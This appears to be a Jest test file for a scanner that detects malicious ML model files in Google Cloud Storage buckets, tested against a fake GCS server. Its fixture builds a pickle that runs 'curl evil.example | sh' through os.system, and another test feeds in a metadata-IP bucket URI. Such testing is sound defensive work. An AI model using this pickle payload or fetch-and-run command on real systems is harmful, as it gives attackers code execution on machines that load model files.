import { createScanner } from '../../createScanner';
import { PickleWriter } from '../../formats/pickle/testing/pickleWriter';
import {
  sparseSafetensors,
  sparseTorchZip,
  startFakeGcs,
  torchStateDictPickle,
  VirtualObject,
  type FakeGcs,
} from '../../test-support/remote';
import {
  createRemoteSource,
  newTransferContext,
  remoteSourcesFromEnv,
  type RemoteSourcesConfig,
} from '../remoteSources';
import { scanRemoteSource } from '../scanRemote';
import { gcsEndpointFromEmulatorHost, parseGcsUri } from './GcsSource';

jest.setTimeout(60_000);

const GiB = 1024 ** 3;
const TOKEN = 'ya29.test-token';
let gcs: FakeGcs;
const sleeps: number[] = [];

const evilPickle = PickleWriter.create()
  .proto(2)
  .global('os', 'system')
  .binUnicode('curl evil.example | sh')
  .raw(0x85)
  .reduce()
  .stop()
  .bytes();

beforeAll(async () => {
  gcs = await startFakeGcs(
    {
      'ml-models': {
        'llm/config.json': VirtualObject.of('{"model_type":"llama"}'),
        'llm/model.safetensors': sparseSafetensors(1.5 * GiB, 300),
        'llm/extra/evil.pkl': VirtualObject.of(evilPickle),
        'llm-large/decoy.pkl': VirtualObject.of(evilPickle),
        'torch/model.pt': sparseTorchZip(
          torchStateDictPickle(200, 1000, 'id'),
          1.2 * GiB,
          200,
        ),
      },
      private: { 'a/model.safetensors': sparseSafetensors(1e6, 2) },
    },
    { token: TOKEN, pageSize: 2, forbiddenBuckets: ['private'] },
  );
});
afterAll(() => gcs.close());
beforeEach(() => {
  gcs.served.body = 0;
  gcs.served.log.length = 0;
  gcs.faults.length = 0;
  sleeps.length = 0;
});

function config(token: string | null = TOKEN): RemoteSourcesConfig {
  return {
    gcs: {
      endpoint: gcs.origin,
      ...(token ? { token } : {}),
      http: {
        retries: 2,
        sleep: async ms => {
          sleeps.push(ms);
        },
      },
    },
  };
}

async function scan(uri: string, cfg = config()) {
  const transfer = newTransferContext();
  return scanRemoteSource(
    createScanner(),
    createRemoteSource(uri, cfg, transfer),
    transfer,
  );
}

describe('Google Cloud Storage source', () => {
  it('lists a prefix across pages with the bearer token and finds a malicious pickle next to 1.5 GiB of safetensors, under 1 MB per GB', async () => {
    const result = await scan('gs://ml-models/llm');
    expect(result.files.map(f => f.path)).toEqual([
      'config.json',
      'extra/evil.pkl',
      'model.safetensors',
    ]);
    expect(
      result.findings.some(
        f =>
          f.severity === 'critical' &&
          f.location.path === 'extra/evil.pkl' &&
          f.message.includes('os.system'),
      ),
    ).toBe(true);
    expect(result.findings.filter(f => f.ruleId.startsWith('SCAN-'))).toEqual(
      [],
    );
    expect(gcs.served.body).toBeLessThan(1.5 * 1_000_000);
    expect(result.remote?.bytesTransferred).toBe(gcs.served.body);
    const lists = gcs.served.log.filter(e => !e.url.includes('alt=media'));
    expect(lists).toHaveLength(2); // 3 objects, 2 per page
    expect(lists[1].url).toContain('pageToken=2');
    expect(
      gcs.served.log.every(e => e.authorization === `Bearer ${TOKEN}`),
    ).toBe(true);
    // Every media read names the generation it listed.
    expect(
      gcs.served.log
        .filter(e => e.url.includes('alt=media'))
        .every(e => /generation=\d+/.test(e.url) && e.range),
    ).toBe(true);
  });

  it('judges a 1.2 GiB PyTorch zip from its directory and pickle', async () => {
    const result = await scan('gs://ml-models/torch/model.pt');
    expect(result.files.map(f => f.path)).toEqual(['model.pt']);
    expect(
      result.findings.some(
        f => f.severity === 'critical' && f.message.includes('os.system'),
      ),
    ).toBe(true);
    expect(gcs.served.body).toBeLessThan(1.2 * 1_000_000);
  });

  it('gives the same digest while generations stay, with no object byte transferred, and a new one after an overwrite', async () => {
    const first = await createRemoteSource(
      'gs://ml-models/llm/',
      config(),
    ).digest();
    expect(
      await createRemoteSource('gs://ml-models/llm/', config()).digest(),
    ).toBe(first);
    expect(gcs.served.body).toBe(0);
    expect(gcs.served.log.some(e => e.url.includes('alt=media'))).toBe(false);
    const bucket = gcs.buckets['ml-models'];
    const original = bucket['llm/config.json'];
    bucket['llm/config.json'] = VirtualObject.of('{"model_type":"changed"}');
    try {
      expect(
        await createRemoteSource('gs://ml-models/llm/', config()).digest(),
      ).not.toBe(first);
    } finally {
      bucket['llm/config.json'] = original;
    }
  });

  it('fails the read of an object overwritten after listing instead of reading the new generation', async () => {
    const source = createRemoteSource(
      'gs://ml-models/torch/model.pt',
      config(),
    );
    const tree = await source.open();
    const bucket = gcs.buckets['ml-models'];
    const original = bucket['torch/model.pt'];
    bucket['torch/model.pt'] = VirtualObject.of(evilPickle);
    try {
      await expect(tree.files[0].open().read(0, 10)).rejects.toThrow(
        /HTTP 404/,
      );
    } finally {
      bucket['torch/model.pt'] = original;
    }
  });

  it('names authentication when the token is rejected or missing, and authorisation for a forbidden bucket: never a pass', async () => {
    for (const [cfg, uri, words] of [
      [
        config('ya29.wrong'),
        'gs://ml-models/llm',
        /401: authentication failed/,
      ],
      [config(null), 'gs://ml-models/llm', /GOOGLE_OAUTH_ACCESS_TOKEN/],
      [config(), 'gs://private/a', /403: authorisation refused/],
    ] as const) {
      const result = await scan(uri, cfg);
      expect(result.findings).toEqual([
        expect.objectContaining({
          ruleId: 'SCAN-REMOTE-INCOMPLETE',
          severity: 'high',
          message: expect.stringMatching(words),
        }),
      ]);
    }
  });

  it('retries 429 and 503 honouring Retry-After, and reports a file it still cannot read as incomplete', async () => {
    gcs.faults.push(
      { match: /\/o\?/, status: 429, headers: { 'Retry-After': '3' } },
      { match: /alt=media/, status: 503, headers: { 'Retry-After': '1' } },
    );
    const ok = await scan('gs://ml-models/llm/config.json');
    expect(ok.findings.filter(f => f.ruleId.startsWith('SCAN-'))).toEqual([]);
    expect(sleeps).toEqual([3000, 1000]);

    gcs.faults.push({ match: /evil\.pkl\?alt=media/, status: 503, times: 3 });
    const broken = await scan('gs://ml-models/llm');
    const incomplete = broken.findings.filter(
      f => f.ruleId === 'SCAN-REMOTE-INCOMPLETE',
    );
    expect(incomplete).toEqual([
      expect.objectContaining({
        location: expect.objectContaining({ path: 'extra/evil.pkl' }),
        message: expect.stringContaining('HTTP 503'),
      }),
    ]);
  });

  it('accepts only valid bucket names, configured buckets and a configured source', () => {
    expect(parseGcsUri('gs://ml-models/a/b')).toEqual({
      bucket: 'ml-models',
      prefix: 'a/b',
    });
    expect(parseGcsUri('gs://169.254.169.254:80/x')).toBeUndefined();
    expect(parseGcsUri('gs://Evil/x')).toBeUndefined();
    expect(() =>
      createRemoteSource('gs://other/x', {
        gcs: { ...config().gcs, allowedBuckets: ['ml-models'] },
      }),
    ).toThrow(/allowedBuckets/);
    expect(() => createRemoteSource('gs://ml-models/x', {})).toThrow(
      /not configured/,
    );
  });

  it('reads STORAGE_EMULATOR_HOST and GOOGLE_OAUTH_ACCESS_TOKEN for the CLI', () => {
    expect(
      remoteSourcesFromEnv({
        STORAGE_EMULATOR_HOST: 'localhost:4443',
        GOOGLE_OAUTH_ACCESS_TOKEN: 'ya29.x',
      }).gcs,
    ).toEqual({ endpoint: 'http://localhost:4443', token: 'ya29.x' });
    expect(gcsEndpointFromEmulatorHost('https://gcs.internal')).toBe(
      'https://gcs.internal',
    );
    expect(remoteSourcesFromEnv({}).gcs).toEqual({});
  });
});
